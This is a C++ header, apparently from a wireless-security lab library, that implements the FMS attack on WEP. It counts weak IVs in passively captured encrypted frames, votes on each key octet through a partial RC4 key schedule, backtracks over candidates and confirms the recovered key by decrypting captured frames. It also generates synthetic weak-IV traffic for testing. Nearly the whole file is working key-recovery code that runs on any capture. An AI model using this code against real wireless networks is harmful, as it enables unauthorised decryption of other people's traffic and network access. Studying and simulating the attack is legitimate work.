#pragma once

#include <algorithm>
#include <array>
#include <cstdint>
#include <numeric>
#include <optional>
#include <vector>

#include "wavelab/capture.hpp"
#include "wavelab/error.hpp"
#include "wavelab/rng.hpp"
#include "wavelab/wepcrypt.hpp"

namespace wavelab::attacks {

/// First payload octet of every data frame (the LLC/SNAP header byte).
inline constexpr std::uint8_t kSnapByte = 0xAA;

struct FmsOptions {
  std::size_t key_bytes = 5;
  std::uint8_t known_first_byte = kSnapByte;
  std::size_t depth = 2;  // candidates tried per key position
  std::size_t verify_frames = 3;
  std::size_t min_weak_per_position = 1;
};

struct FmsResult {
  WepKey key;
  std::vector<std::size_t> weak_ivs;      // IVs of form (A+3, 255, x) per position A
  std::vector<std::uint32_t> key_votes;   // votes the chosen octet received per position
  std::vector<std::uint32_t> total_votes; // resolved samples per position
  std::size_t samples = 0;
  std::size_t keys_tried = 0;
};

using VoteTable = std::array<std::uint32_t, 256>;

namespace detail {

struct FmsSample {
  Iv iv;
  std::uint8_t first_out;  // first keystream octet
};

/// Runs the first A+3 steps of the key schedule with the known seed prefix
/// (IV plus the A recovered octets). When the state is resolved, the first
/// output octet determines the next key octet with elevated probability.
inline std::optional<std::uint8_t> fms_candidate(const FmsSample& s, const std::uint8_t* prefix, std::size_t a) {
  std::array<std::uint8_t, 256> S;
  std::iota(S.begin(), S.end(), 0);
  std::array<std::uint8_t, 16> K{};
  K[0] = s.iv[0];
  K[1] = s.iv[1];
  K[2] = s.iv[2];
  for (std::size_t k = 0; k < a; ++k) K[3 + k] = prefix[k];
  const std::size_t steps = a + 3;
  std::uint8_t j = 0;
  for (std::size_t i = 0; i < steps; ++i) {
    j = static_cast<std::uint8_t>(j + S[i] + K[i]);
    std::swap(S[i], S[j]);
  }
  std::uint8_t x = S[1];
  if (x >= steps || static_cast<std::uint8_t>(x + S[x]) != steps) return std::nullopt;
  std::uint8_t inv = 0;
  for (int v = 0; v < 256; ++v)
    if (S[v] == s.first_out) {
      inv = static_cast<std::uint8_t>(v);
      break;
    }
  return static_cast<std::uint8_t>(inv - j - S[steps]);
}

inline VoteTable fms_votes(const std::vector<FmsSample>& samples, const std::vector<std::uint8_t>& prefix) {
  VoteTable votes{};
  for (const auto& s : samples)
    if (auto c = fms_candidate(s, prefix.data(), prefix.size())) ++votes[*c];
  return votes;
}

/// Candidates ordered by votes, ties broken toward the lower value.
inline std::vector<std::uint8_t> ranked(const VoteTable& votes) {
  std::vector<std::uint8_t> order(256);
  std::iota(order.begin(), order.end(), 0);
  std::stable_sort(order.begin(), order.end(), [&](auto a, auto b) { return votes[a] > votes[b]; });
  return order;
}

}  // namespace detail

inline VoteTable fms_vote_table(const Capture& capture, const std::vector<std::uint8_t>& prefix,
                                std::uint8_t known_first_byte = kSnapByte) {
  std::vector<detail::FmsSample> samples;
  for (const auto& r : capture)
    if (r.frame.ftype == FrameType::Data && r.frame.is_wep())
      samples.push_back({r.frame.wep().iv, static_cast<std::uint8_t>(r.frame.wep().ciphertext[0] ^ known_first_byte)});
  return detail::fms_votes(samples, prefix);
}

/// Recovers the WEP key from passively recorded data frames by resolved-state
/// voting per key octet, verifying the assembled key against captured frames
/// and backtracking over the next-ranked candidates up to options.depth.
inline FmsResult fms_recover_key(const Capture& capture, const FmsOptions& options = {}) {
  std::vector<detail::FmsSample> samples;
  std::vector<const WepEnvelope*> verify;
  FmsResult out;
  out.weak_ivs.assign(options.key_bytes, 0);
  for (const auto& r : capture) {
    const Frame& f = r.frame;
    if (f.ftype != FrameType::Data || !f.is_wep() || f.wep().ciphertext.size() < 5) continue;
    const auto& env = f.wep();
    samples.push_back({env.iv, static_cast<std::uint8_t>(env.ciphertext[0] ^ options.known_first_byte)});
    if (verify.size() < options.verify_frames) verify.push_back(&env);
    if (env.iv[1] == 255 && env.iv[0] >= 3 && env.iv[0] < 3 + options.key_bytes) ++out.weak_ivs[env.iv[0] - 3];
  }
  out.samples = samples.size();
  for (std::size_t a = 0; a < options.key_bytes; ++a)
    if (out.weak_ivs[a] < options.min_weak_per_position)
      throw Error(ErrorKind::NotEnoughWeakIvs, "key position " + std::to_string(a) + " has " +
                                                   std::to_string(out.weak_ivs[a]) + " weak IVs");

  std::vector<std::uint8_t> prefix;
  std::vector<std::uint32_t> chosen_votes;
  std::vector<std::uint32_t> totals;

  auto verifies = [&](const WepKey& key) {
    for (const auto* env : verify) {
      try {
        wep_open(key, *env);
      } catch (const Error&) {
        return false;
      }
    }
    return true;
  };

  // Depth-first over the top `depth` candidates per position.
  auto search = [&](auto& self, std::size_t a) -> bool {
    if (a == options.key_bytes) {
      ++out.keys_tried;
      return verifies(WepKey(prefix));
    }
    VoteTable votes = detail::fms_votes(samples, prefix);
    std::uint32_t total = std::accumulate(votes.begin(), votes.end(), std::uint32_t{0});
    auto order = detail::ranked(votes);
    for (std::size_t rank = 0; rank < options.depth && votes[order[rank]] > 0; ++rank) {
      prefix.push_back(order[rank]);
      chosen_votes.push_back(votes[order[rank]]);
      totals.push_back(total);
      if (self(self, a + 1)) return true;
      prefix.pop_back();
      chosen_votes.pop_back();
      totals.pop_back();
    }
    return false;
  };

  if (!search(search, 0))
    throw Error(ErrorKind::VerificationFailed, "no key within the backtracking depth verified");
  out.key = WepKey(prefix);
  out.key_votes = chosen_votes;
  out.total_votes = totals;
  return out;
}

// ---------------------------------------------------------------------------
// Traffic generation

/// WEP data traffic rich in weak IVs: `per_position` frames with IV
/// (A+3, 255, x) for every key position A, plus `filler` frames under random
/// IVs, shuffled. Every payload starts with the SNAP byte.
inline Capture weak_iv_traffic(const WepKey& key, std::size_t per_position, std::size_t filler, std::uint64_t seed,
                               const Mac& station = Mac::parse("00:02:2d:10:20:30"),
                               const Mac& bssid = Mac::parse("00:02:2d:00:00:01")) {
  Rng rng(seed);
  std::vector<Iv> ivs;
  for (std::size_t a = 0; a < key.secret().size(); ++a) {
    std::vector<std::uint8_t> xs(256);
    std::iota(xs.begin(), xs.end(), 0);
    rng.shuffle(xs);
    for (std::size_t n = 0; n < per_position; ++n)
      ivs.push_back({static_cast<std::uint8_t>(a + 3), 255, xs[n % 256]});
  }
  for (std::size_t n = 0; n < filler; ++n) ivs.push_back(iv_from_u32(static_cast<std::uint32_t>(rng.below(1u << 24))));
  rng.shuffle(ivs);

  Capture out;
  out.reserve(ivs.size());
  double t = 0.0;
  for (const auto& iv : ivs) {
    Bytes payload = {kSnapByte, kSnapByte, 0x03, 0x00, 0x00, 0x00, 0x08, 0x00};
    Bytes body = rng.bytes(20 + rng.below(40));
    payload.insert(payload.end(), body.begin(), body.end());
    Frame f;
    f.ftype = FrameType::Data;
    f.src = station;
    f.dst = bssid;
    f.bssid = bssid;
    f.flags = flags::kPrivacy;
    f.body = wep_seal(key, iv, payload);
    out.push_back(CaptureRecord{t, std::nullopt, std::nullopt, 1.0, std::move(f)});
    t += 1e-3;
  }
  return out;
}

}  // namespace wavelab::attacks
